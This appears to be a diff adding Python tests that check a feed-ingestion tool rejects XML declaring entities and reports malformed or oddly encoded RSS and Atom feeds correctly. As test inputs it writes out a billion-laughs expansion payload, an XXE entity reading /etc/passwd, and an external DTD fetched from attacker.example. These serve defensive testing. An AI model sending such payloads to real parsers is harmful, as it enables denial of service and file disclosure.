@@ -1420,6 +1420,92 @@ def test_a_text_quoting_a_feeds_root_tag_at_its_top_is_read() -> None:
     assert parsed.author == "Ann Lee"
 
 
+_LAUGHS = (
+    '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY lol0 "lol">'
+    + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
+    + "]><rss><channel><item><title>&lol9;</title></item></channel></rss>"
+)
+
+
+@pytest.mark.parametrize(
+    ("name", "xml", "entity"),
+    [
+        ("laughs.html", _LAUGHS, "lol0"),  # a billion "lol"s, 3 GB, once expanded
+        ("lolz.txt", '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]><lolz>&lol2;</lolz>', "lol"),
+        (
+            "xxe.html",
+            '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+            "<rss><channel><item><title>&xxe;</title></item></channel></rss>",
+            "xxe",
+        ),
+        (
+            "remote.txt",
+            '<!DOCTYPE feed [<!ENTITY % remote SYSTEM "https://attacker.example/x.dtd"> %remote;]>'
+            '<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>A</title></entry></feed>',
+            "remote",
+        ),
+    ],
+)
+def test_xml_declaring_entities_is_rejected_unexpanded(name: str, xml: str, entity: str) -> None:
+    # Session 56: read by an XML parser that forbids entity declarations (defusedxml); the regular expressions before
+    # it missed a feed whose doctype held declarations, read as one article of raw XML or of the channel's text
+    error = _rejection(f"incoming/{name}", xml.encode())
+
+    assert error.reason == (
+        f"the file is XML whose document type declares entities (\u201c{entity}\u201d), which are not read"
+    )
+    assert "lollol" not in error.reason + error.fix
+
+
+@pytest.mark.parametrize(
+    ("name", "data", "said"),
+    [
+        (  # a bare `&` in the first story's link: XML breaks there, before any story closes
+            "amp.html",
+            b"<rss><channel><item><title>Ferry strike</title><link>https://somanet.example/?a=1&b=2</link></item>"
+            b"</channel></rss>",
+            "an RSS feed whose XML breaks off before its first story ends, at line 1, column 84",
+        ),
+        (  # every story left open: none closes
+            "open.txt",
+            b"<rss><channel>" + b"<item><title>Ferry strike</title>" * 3 + b"</channel></rss>",
+            "an RSS feed whose XML breaks off before its first story ends, at line 1, column 116",
+        ),
+        (  # an entity no XML declares, after a story: that story is counted
+            "nbsp.html",
+            b"<rss><channel><item><title>A</title></item><item><title>B&nbsp;C</title></item></channel></rss>",
+            "an RSS feed listing 1 story (\u201cA\u201d) before its XML breaks off at line 1, column 58",
+        ),
+        (  # blank lines before the XML declaration, which XML wants first
+            "blank.txt",
+            b'\n\n<?xml version="1.0"?>\n<rss><channel><item><title>A</title></item></channel></rss>',
+            "an RSS feed listing 1 story (\u201cA\u201d)",
+        ),
+        (  # UTF-16 with its byte-order mark
+            "wide.txt",
+            '\ufeff<?xml version="1.0" encoding="UTF-16"?><feed xmlns="http://www.w3.org/2005/Atom"><entry>'
+            "<title>Ferry strike</title></entry></feed>".encode("utf-16-le"),
+            "an Atom feed listing 1 story (\u201cFerry strike\u201d)",
+        ),
+        (  # RSS 0.91's Netscape DTD declares HTML's entities; a Media RSS title is not the story's
+            "netscape.html",
+            b'<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS'
+            b' 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"'
+            b' xmlns:media="http://search.yahoo.com/mrss/"><channel><item><media:title>Photo</media:title>'
+            b"<title>Caf\xe9 &eacute;t\xe9</title></item></channel></rss>",
+            "an RSS feed listing 1 story (\u201cCaf\u00e9 \u00e9t\u00e9\u201d)",
+        ),
+    ],
+)
+def test_a_feed_the_xml_parser_reads_or_breaks_on_is_rejected(name: str, data: bytes, said: str) -> None:
+    # Session 56: the stories closed before the XML breaks are counted, and a feed that breaks inside its first story
+    # is rejected too; the regular expressions before passed on a feed with no story closed, or with a byte-order
+    # mark of UTF-16 or a blank line before its declaration, as one article
+    error = _rejection(f"incoming/{name}", data)
+
+    assert error.reason == f"the file is {said}, not one article"
+
+
 _ITEM = (
     "<item><title>{title}</title><link>https://somanet.example/{i}</link><description>Crews walked out.</description>"
     "</item>"
